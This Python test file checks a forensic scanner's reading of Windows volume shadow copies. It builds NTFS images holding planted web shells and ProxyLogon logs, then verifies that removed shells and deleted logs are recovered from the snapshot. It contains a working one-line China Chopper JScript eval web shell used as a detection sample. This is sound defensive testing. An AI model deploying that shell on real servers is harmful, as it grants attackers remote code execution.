#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# Volume shadow copies (issue 7, --shadows). Only Windows writes them, so
# tests/make_vss.py adds a VSS store to an NTFS volume made with mkntfs and
# an ntfs-3g mount (as tests/images.py does): the store holds the volume as
# it was before a later change made through the mount. Before: a China
# Chopper shell in aspnet_client (x.aspx), a second shell in owa/auth
# (kept.aspx) and a ProxyLogon HttpProxy log; the snapshot is taken; then
# x.aspx and the log are deleted (planted then removed; Exchange's own
# retention deletes old logs). Checked here:
# * Debian's vshadowinfo (libvshadow-utils) lists the generated store, so
#   the generator writes what libvshadow reads (skipped when not installed);
# * without --shadows nothing changes; with it the snapshot's files are
#   scanned as IMAGE!/vol1@vss1/..., seen_in names the snapshot time, the
#   unchanged shell is reported once with seen_in [live, time], the removed
#   shell gives shadow_webshell_removed with both times, the deleted log
#   extends the coverage with a warning that says it came from a snapshot,
#   and the summary notes the shadow copy read;
# * the same through a VHDX (the glue reads through TSK's image reads);
# * a volume without VSS says so in a note (no error), a VSS header with no
#   catalog too; a corrupt catalog is an error for the volume while the live
#   volume is still scanned; the image is never written;
# * grown_logs(): a log still being written at the snapshot (appended to
#   after it) is counted once in coverage records and aggregated counts,
#   its shared lines' findings written once with seen_in [live, time], the
#   appended lines' with [live]; a log rewritten differently after the
#   snapshot is counted in full (its snapshot copy read beside it).
# Needs root and /dev/fuse (exit 77 otherwise).
import os, random, shutil, subprocess, sys, tempfile, time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import images  # noqa: E402  (scan(), check(), the sample files)
import make_vss  # noqa: E402
import ntfs_volume  # noqa: E402  (EXHUNT, skip(), failures)

check = images.check
SHELL = '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>\n'
ASPNET = 'inetpub/wwwroot/aspnet_client'
AUTH = 'Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth'


def before(mnt):
    os.makedirs(os.path.join(mnt, ASPNET))
    os.makedirs(os.path.join(mnt, AUTH))
    with open(os.path.join(mnt, ASPNET, 'x.aspx'), 'w') as f:
        f.write(SHELL)
    with open(os.path.join(mnt, AUTH, 'kept.aspx'), 'w') as f:
        f.write(SHELL.replace('"p"', '"k"'))
    images.fill_log(mnt)


def after(mnt):
    os.remove(os.path.join(mnt, ASPNET, 'x.aspx'))
    os.remove(os.path.join(mnt, images.LOG_DIR, images.LOG_NAME))


def finds(objs):
    return [o for o in objs if o['kind'] == 'finding']


def summary(objs):
    s = [o for o in objs if o['kind'] == 'summary']
    return s[0] if len(s) == 1 else {}


def iso(seconds):
    return time.strftime('%Y-%m-%dT%H:%M:%S.000Z', time.gmtime(seconds))


def body(tmp):
    vol = os.path.join(tmp, 'vss.raw')
    make_vss.make_volume(vol, 48)
    make_vss.mounted(vol, before)
    created = int(time.time()) + 2  # the snapshot: after the shell was planted
    changed = make_vss.snapshot(vol, after, created)
    check(changed > 0, 'the generator copied the %d changed blocks' % changed)
    when = iso(created)
    if shutil.which('vshadowinfo'):
        info = subprocess.run(['vshadowinfo', vol], capture_output=True, text=True, timeout=60)
        check(info.returncode == 0 and 'Number of stores:\t1' in info.stdout,
              'vshadowinfo (libvshadow) lists the generated store')
        check(time.strftime('%b %d, %Y %H:%M:%S', time.gmtime(created)) in info.stdout,
              'vshadowinfo reads its creation time')
    else:
        print('note: vshadowinfo (libvshadow-utils) missing; libvshadow is checked through exhunt')
    digest_before = images.sha256(vol)

    # Without --shadows: the live volume only.
    _, plain = images.scan(vol)
    check(not any('x.aspx' in o['source']['path'] for o in finds(plain)),
          'without --shadows the removed shell is not seen')
    check(all(o['seen_in'] == ['live'] for o in finds(plain)), 'without --shadows seen_in is live')
    check('notes' not in summary(plain), 'without --shadows no notes')
    check(not [c for c in summary(plain).get('coverage', []) if c['family'] == 'httpproxy'],
          'without --shadows the deleted log gives no coverage')

    for name, path in (('raw', vol), ('vhdx', os.path.join(tmp, 'vss.vhdx'))):
        if name == 'vhdx':
            images.run(['qemu-img', 'convert', '-f', 'raw', '-O', 'vhdx', vol, path])
        proc, objs = images.scan(path, '--shadows')
        fs = finds(objs)
        s = summary(objs)
        snap = [o for o in fs if '!/vol1@vss1/' in o['source']['path']]
        check(snap and all(o['seen_in'] == [when] for o in snap),
              '%s: the snapshot\'s findings have seen_in [snapshot time]' % name)
        check(snap and all(o['file']['snapshot'] == when for o in snap if 'file' in o),
              '%s: file.snapshot is the snapshot time' % name)
        shell = [o for o in snap if o['source']['path'].endswith('/x.aspx')
                 and o['rule'] == 'webshell_chopper_jscript_eval']
        check(len(shell) == 1, '%s: the removed shell is found in the snapshot' % name)
        gone = [o for o in fs if o['rule'] == 'shadow_webshell_removed']
        check(len(gone) == 1 and gone[0]['source']['path'].endswith('@vss1/' + ASPNET + '/x.aspx'),
              '%s: planted-then-removed reported once, for x.aspx' % name)
        if gone:
            ev = gone[0]['evidence']
            check(ev['snapshot_first'] == when and ev['planted'] == gone[0]['file']['created'] and
                  ev['planted'] <= when and gone[0]['severity'] == 'high' and
                  gone[0]['category'] == 'webshell',
                  '%s: planted-then-removed holds both times' % name)
        kept = [o for o in fs if o['source']['path'].endswith('/kept.aspx')
                and o['rule'] == 'webshell_chopper_jscript_eval']
        check(len(kept) == 1 and kept[0]['seen_in'] == ['live', when] and
              '/vol1/' in kept[0]['source']['path'] and 'snapshot' not in kept[0]['file'],
              '%s: the shell on both is reported once, seen_in [live, time]' % name)
        check(not [o for o in fs if o['rule'] == 'shadow_webshell_removed'
                   and 'kept.aspx' in o['source']['path']],
              '%s: a shell still live is not "removed"' % name)
        logs = [o for o in fs if o['source']['type'] == 'httpproxy']
        check(logs and all(o['seen_in'] == [when] and '@vss1/' in o['source']['path'] for o in logs),
              '%s: the deleted log\'s requests come from the snapshot' % name)
        cov = [c for c in s.get('coverage', []) if c['family'] == 'httpproxy']
        check(len(cov) == 1 and cov[0]['files'] == 1 and
              any('shadow cop' in w for w in cov[0]['warnings']),
              '%s: the snapshot\'s log extends the coverage, said to come from a snapshot' % name)
        check(any('shadow copy 1 of vol1' in n and when in n for n in s.get('notes', [])),
              '%s: the summary notes the shadow copy read' % name)
        check(not s.get('errors'), '%s: no error' % name)
        check(proc.returncode == 1, '%s: exit 1 for the findings' % name)
    text = subprocess.run([ntfs_volume.EXHUNT, 'scan', '--no-progress', '--shadows', vol],
                          capture_output=True, text=True, timeout=300).stdout
    check('seen in: live, ' + when in text and 'Notes:\n' in text,
          'text report: "seen in" and the notes')
    text = subprocess.run([ntfs_volume.EXHUNT, 'scan', '--no-progress', vol],
                          capture_output=True, text=True, timeout=300).stdout
    check('seen in:' not in text and 'Notes:' not in text,
          'text report without --shadows: neither')
    check(images.sha256(vol) == digest_before, 'the image is unchanged by the scans')

    # A volume without VSS: said so, not an error; output otherwise as before.
    plain_vol = os.path.join(tmp, 'plain.raw')
    make_vss.make_volume(plain_vol, 16)
    make_vss.mounted(plain_vol, before)
    _, a = images.scan(plain_vol)
    _, b = images.scan(plain_vol, '--shadows')
    check(any('no volume shadow copies' in n for n in summary(b).get('notes', [])) and
          not summary(b).get('errors'), 'no VSS: a note, no error')
    check(images.digest(a) == images.digest(b), 'no VSS: the same findings as without --shadows')
    make_vss.add_empty_header(plain_vol)
    _, c = images.scan(plain_vol, '--shadows')
    check(any('no volume shadow copies' in n for n in summary(c).get('notes', [])) and
          not summary(c).get('errors') and images.digest(c) == images.digest(a),
          'a VSS header without catalog: no shadow copies, said so')

    # Damaged VSS data: an error for the volume; the live volume is scanned.
    bad = os.path.join(tmp, 'bad.raw')
    shutil.copy(vol, bad)
    with open(bad, 'r+b') as f:
        f.seek(make_vss.HEADER_OFF + 48)
        catalog = int.from_bytes(f.read(8), 'little')
        f.seek(catalog)
        f.write(b'\xff' * 64)  # the catalog block header
    proc, objs = images.scan(bad, '--shadows')
    s = summary(objs)
    errs = [e['message'] for e in s.get('errors', [])]
    check(any('shadow copies cannot be read' in e for e in errs),
          'corrupt catalog: an error for the volume (%s)' % errs)
    check(any(o['source']['path'].endswith('/vol1/' + AUTH + '/kept.aspx') for o in finds(objs)),
          'corrupt catalog: the live volume is still scanned')
    check(proc.returncode == 1, 'corrupt catalog: exit 1 for the live findings')

    # Random damage to the store's metadata (catalog, store header, block
    # descriptors, ranges, bitmap): libvshadow must refuse or read it, and
    # every scan end with the live findings and valid JSON.
    with open(vol, 'rb') as f:
        data = f.read()
    catalog = int.from_bytes(data[make_vss.HEADER_OFF + 48:make_vss.HEADER_OFF + 56], 'little')
    e3 = catalog + 128 + 128  # the type 0x03 catalog entry
    blist, header, brange, bitmap = (int.from_bytes(data[e3 + o:e3 + o + 8], 'little')
                                     for o in (8, 32, 40, 48))
    rnd = random.Random(7)
    ended = 0
    for i in range(10):
        dmg = bytearray(data)
        for _ in range(8):
            base = rnd.choice((catalog, header, blist, brange, bitmap))
            off = base + rnd.randrange(0, 512)
            dmg[off:off + 8] = rnd.randbytes(8) if i % 2 else b'\xff' * 8
        path = os.path.join(tmp, 'dmg.raw')
        with open(path, 'wb') as f:
            f.write(dmg)
        proc, objs = images.scan(path, '--shadows')
        live = any(o['source']['path'].endswith('/vol1/' + AUTH + '/kept.aspx')
                   for o in finds(objs))
        ended += proc.returncode in (0, 1) and live
    check(ended == 10, 'damaged store metadata: %d of 10 scans end with the live findings' % ended)


GROWN = images.LOG_NAME  # still being written at the snapshot
REWRITTEN = 'HttpProxy_2021030300-1.LOG'  # rewritten differently after it


def log_versions():
    """The log contents: (grown at the snapshot, grown live, rewritten at
    the snapshot, rewritten live). The grown log gets two more scanner
    probes from 10.20.0.5 in the same hour (aggregated with the first
    three) and one more ProxyLogon request; the other log, whose probes
    come from 10.20.0.6, has its first record's request id changed and a
    line added, so the snapshot's copy is not the start of the live one."""
    with open(images.LOG_SRC, 'rb') as f:
        src = f.read()
    lines = src.split(b'\r\n')
    probe, exploit = lines[7], lines[10]  # lines 8 and 11 of the file
    more = b''.join(probe.replace(b'23:40:00.000Z,req-000000', b'23:%d:00.000Z,req-0%d' % (m, m))
                    + b'\r\n' for m in (50, 55))
    more += exploit.replace(b'04:12:35.900Z,req-235900', b'04:59:00.000Z,req-259000') + b'\r\n'
    other = src.replace(b'10.20.0.5', b'10.20.0.6')
    rewritten = other.replace(b'req-000100', b'req-000199', 1) + more.replace(
        b'10.20.0.5', b'10.20.0.6')
    return src, src + more, other, rewritten


def grown_logs(tmp):
    """A log that grew after the snapshot is counted once; one rewritten
    differently is counted in full."""
    grown_snap, grown_live, rew_snap, rew_live = log_versions()
    logdir = images.LOG_DIR

    def write(mnt, name, data):
        os.makedirs(os.path.join(mnt, logdir), exist_ok=True)
        with open(os.path.join(mnt, logdir, name), 'wb') as f:
            f.write(data)

    def before_logs(mnt):
        write(mnt, GROWN, grown_snap)
        write(mnt, REWRITTEN, rew_snap)

    def after_logs(mnt):
        with open(os.path.join(mnt, logdir, GROWN), 'ab') as f:  # appended
            f.write(grown_live[len(grown_snap):])
        write(mnt, REWRITTEN, rew_live)

    # What must be counted: the live logs once, and the rewritten log's
    # snapshot copy beside them (as three files of a folder).
    ref = os.path.join(tmp, 'ref-logs')
    write(ref, GROWN, grown_live)
    write(ref, REWRITTEN, rew_live)
    write(ref, 'HttpProxy_2021030301-1.LOG', rew_snap)
    _, ref_objs = images.scan(ref)
    want = [c['records'] for c in summary(ref_objs).get('coverage', [])
            if c['family'] == 'httpproxy']

    vol = os.path.join(tmp, 'logs.raw')
    make_vss.make_volume(vol, 48)
    make_vss.mounted(vol, before_logs)
    created = int(time.time()) + 2
    check(make_vss.snapshot(vol, after_logs, created) > 0, 'logs: the snapshot holds old blocks')
    when = iso(created)
    digest_before = images.sha256(vol)
    _, objs = images.scan(vol, '--shadows')
    fs = finds(objs)
    cov = [c for c in summary(objs).get('coverage', []) if c['family'] == 'httpproxy']
    check(len(want) == 1 and len(cov) == 1 and cov[0]['records'] == want[0],
          'logs: records counted once for the grown log, in full for the rewritten one '
          '(%s, want %s)' % ([c['records'] for c in cov], want))
    check(len(cov) == 1 and cov[0]['files'] == 3,
          'logs: the grown log\'s snapshot copy is not read again (files %s)'
          % [c['files'] for c in cov])

    def probes(client):
        return [o for o in fs if o['rule'] == 'proxylogon_ssrf_localhost'
                and o['evidence'].get('ClientIpAddress') == client]
    grown = probes('10.20.0.5')
    check(len(grown) == 1 and grown[0]['count'] == 5 and grown[0]['seen_in'] == ['live', when],
          'logs: the grown log\'s probes aggregate to count 5, seen live and in the snapshot (%s)'
          % [(o['count'], o['seen_in']) for o in grown])
    rew = probes('10.20.0.6')
    check(len(rew) == 1 and rew[0]['count'] == 3 + 5,
          'logs: the rewritten log\'s probes count its snapshot copy in full (%s)'
          % [o['count'] for o in rew])
    on_grown = [o for o in fs if (o['source'].get('windows_path') or '').endswith('\\' + GROWN)]
    shared = [o for o in on_grown if 0 < (o['source'].get('line') or 0) <= 15]
    late = [o for o in on_grown if (o['source'].get('line') or 0) > 15]
    keys = [(o['rule'], o['source'].get('line')) for o in shared]
    check(len(shared) >= 5 and len(keys) == len(set(keys)) and
          all(o['seen_in'] == ['live', when] and '@vss1/' not in o['source']['path']
              for o in shared),
          'logs: findings of the shared lines appear once, seen_in [live, time] (%s)'
          % [(o['rule'], o['source'].get('line'), o['seen_in']) for o in shared])
    check(late and all(o['seen_in'] == ['live'] for o in late),
          'logs: findings of the appended lines are seen live only (%s)'
          % [(o['rule'], o['source'].get('line'), o['seen_in']) for o in late])
    on_rew = [o for o in fs if (o['source'].get('windows_path') or '').endswith('\\' + REWRITTEN)
              and o['source'].get('line') == 11]
    check(len(on_rew) == 1 and on_rew[0]['seen_in'] == ['live', when],
          'logs: the rewritten log\'s snapshot copy is read, its finding identical to the '
          'live one written once (%s)' % [o['seen_in'] for o in on_rew])
    check(images.sha256(vol) == digest_before, 'logs: the image is unchanged by the scan')


def main():
    os.environ['MALLOC_PERTURB_'] = '37'
    if os.geteuid() != 0:
        ntfs_volume.skip('needs root for the ntfs-3g FUSE mount that builds the test images')
    if not os.path.exists('/dev/fuse'):
        ntfs_volume.skip('/dev/fuse is missing: the test images cannot be built')
    missing = [t for t in ('mkntfs', 'ntfs-3g', 'fusermount', 'qemu-img') if not shutil.which(t)]
    if missing:
        ntfs_volume.skip('missing tools: ' + ' '.join(missing))
    tmp = tempfile.mkdtemp(prefix='exh-vss-')
    try:
        body(tmp)
        grown_logs(tmp)
    finally:
        for m in ('vss.raw.mnt', 'plain.raw.mnt', 'logs.raw.mnt'):
            subprocess.run(['fusermount', '-u', '-q', os.path.join(tmp, m)], capture_output=True)
        shutil.rmtree(tmp, ignore_errors=True)
    if ntfs_volume.failures:
        print('%d failures' % len(ntfs_volume.failures))
        return 1
    return 0


if __name__ == '__main__':
    sys.exit(main())
